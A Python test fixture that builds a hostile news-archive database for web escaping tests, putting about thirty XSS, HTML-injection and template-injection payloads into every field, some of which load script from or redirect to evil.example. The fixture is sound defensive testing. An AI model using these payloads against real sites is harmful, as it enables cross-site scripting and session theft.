"""An archive in which every field that a file can fill is an attack, made up for the tests of the pages."""

from pathlib import Path
from typing import Any

from fixtures_web import make_archive
from sqlite_utils import Database

#: What tells that a payload got through: a script sets it, an element carries it, a template computes it.
TELL, MARK, SUM = "window.pwned=1", "data-pwned", "1336963"
#: Each would do something that a browser shows, if one page forgot to escape it where it stands.
PAYLOADS = (
    f"<script {MARK}>{TELL};alert(1)</script>",
    f"<ScRiPt {MARK} src=//evil.example/x.js></sCrIpT>",
    f"<scr<script>ipt {MARK}>{TELL}</scr</script>ipt>",
    f"</script><script {MARK}>{TELL}</script>",
    f"</title><script {MARK}>{TELL}</script>",
    f"</textarea><img {MARK} src=x onerror={TELL}>",
    f"</style><style {MARK}>body{{background:url(//evil.example/c)}}</style>",
    f'"><img {MARK} src=x onerror="{TELL}">',
    f"'><img {MARK} src=//evil.example/i.png>",
    f'" onmouseover="{TELL}" autofocus onfocus="{TELL}" {MARK}="',
    f"' onclick='{TELL}' {MARK}='",
    f"` onload=`{TELL}` {MARK}=`",
    f"javascript:{TELL}",
    f" JaVa\tScRiPt:{TELL}//https://a.example/",
    f"javascript://a.example/%0a{TELL}",
    f"data:text/html,<script {MARK}>parent.{TELL}</script>",
    "vbscript:msgbox(1)",
    "//evil.example/\\@https://a.example",
    f"<svg {MARK} onload={TELL}><animate onbegin={TELL} attributeName=x></svg>",
    f"<math {MARK}><mtext><mglyph><style><img src=x onerror={TELL}>",
    f"<iframe {MARK} srcdoc='<script>parent.{TELL}</script>'></iframe>",
    f"<base {MARK} href=//evil.example/><meta {MARK} http-equiv=refresh content='0;url=//evil.example'>",
    f"<form {MARK} action=//evil.example><button autofocus>Search</button>",
    f"--><img {MARK} src=x><!-- <!--[if IE]><script {MARK}>{TELL}</script>",
    f"]]><x {MARK}/><![CDATA[ &lt;b {MARK}&gt; &#60;b {MARK}&#62; &amp;lt;",
    "{{ 1009 * 1325 + 38 }} {% raw %} ${1009*1325+38} <%= 1 %> #{1} %(x)s {0} {x.__class__}",
    f"<a {MARK} href=x <b <<i {MARK} style='position:fixed;inset:0' <!",
    "\u202egnitide \u2066left \u2067right\u200f \u061c name.\u202eslx.exe",
    "null\x00undefined None NaN \x01mark\x02 \x1b[31m \ufeff\ufffe\x7f",
    f"<b {MARK}>" + "long " * 300 + "x" * 3000 + f'" {MARK}=">',
)
#: Number of the first article; the others follow by one.
FIRST = 2026010100000000
#: Ids of entities, outlets, authors and files of a payload, away from those that are there.
AWAY = 100


def make_hostile(path: Path) -> Path:
    """Write the archive: one article, outlet, entity and author of each payload, all in one story."""
    make_archive(path)
    db = Database(path)
    for number, payload in enumerate(PAYLOADS):
        _insert(db, number, payload)
    db.execute(
        "update entities set article_count ="
        " (select count(*) from article_entities where entity_id = entities.id)"
    )
    conn = db.conn
    assert conn is not None
    conn.commit()
    conn.close()
    return path


def _insert(db: Database, number: int, payload: str) -> None:
    key, other = FIRST + number, AWAY + number
    kind = ("person", "organisation", "place")[number % 3]
    rows: dict[str, list[dict[str, Any]]] = {
        "outlets": [{"id": other, "name": payload, "domain": payload, "country": payload}],
        "authors": [{"id": other, "name": payload, "kind": "person"}],
        "entities": [{"id": other, "name": payload, "kind": kind, "key": payload, "wikidata_id": payload}],
        "files": [
            {"id": key, "path": payload, "sha256": f"h{other}", "bytes": 1, "status": "filed", "run_id": 1}
            | {"media_type": payload}
        ],
        "articles": [_article(key, other, payload)],
        "aliases": [{"alias": payload + " also", "entity_id": other, "source": "text", "mentions": 1}],
        "article_authors": [{"article_id": key, "author_id": other, "position": 0}],
        "article_entities": [
            {"article_id": key, "entity_id": one, "mentions": 1}
            for one in (other, AWAY, AWAY + 1)[: number or 1]
        ],
        "mentions": [
            {"article_id": key, "entity_id": other, "start": 0, "end": len(payload), "surface": payload}
        ],
        "quotes": [
            {"article_id": key, "start": 0, "end": len(payload), "kind": "direct", "speaker_id": other}
        ],
        "images": [{"article_id": key, "position": 0, "url": payload, "caption": payload, "credit": payload}],
        "blocks": [{"article_id": key, "position": 0, "role": "promo", "rule": payload, "text": payload}],
        "evidence": [{"article_id": key, "field": "published", "source": "inferred", "detail": payload}],
        "notes": [{"article_id": key, "position": 0, "kind": "note", "text": payload}],
        "versions": [
            {
                "article_id": key,
                "version": 1,
                "headline": payload + " before",
                "body": payload,
                "file_id": key,
            }
            | {"byline": payload, "standfirst": payload, "editors_note": payload, "replaced_by_run_id": 1}
        ],
        "failures": [{"run_id": 1, "path": payload, "error": payload, "detail": payload, "at": "2026-01-01"}],
        "outlet_lines": [
            {"outlet_id": other, "key": payload, "text": payload, "articles": 9, "looked_at": 12}
        ],
        "copies": [{"article_id": key, "family_id": FIRST + number // 5 * 5, "similarity": 0.9}],
    }
    if number == 0:
        rows["stories"] = [
            {"id": FIRST, "headline": payload, "article_count": len(PAYLOADS), "outlet_count": len(PAYLOADS)}
            | {"first_published": "2026-01-01", "last_published": "2026-01-01"}
        ]
    for table, made in rows.items():
        db.table(table).insert_all(made)


def _article(key: int, outlet: int, payload: str) -> dict[str, Any]:
    texts = ("headline", "title", "standfirst", "byline", "section", "agency", "editor", "editors_note")
    return dict.fromkeys(texts, payload) | {
        "id": key,
        "dateline": payload,
        "url": payload,
        "language": payload,
        "body": f"{payload} said budget.\n\n{payload}\n\nThe last paragraph.",
        "outlet_id": outlet,
        "published_at": "2026-01-01",
        "published_local": "2026-01-01",
        "published_on": "2026-01-01",
        "published_precision": "day",
        "published_source": "inferred",
        "month": "2026-01",
        "year": "2026",
        "word_count": 9,
        "story_id": FIRST,
        "file_id": key,
    }
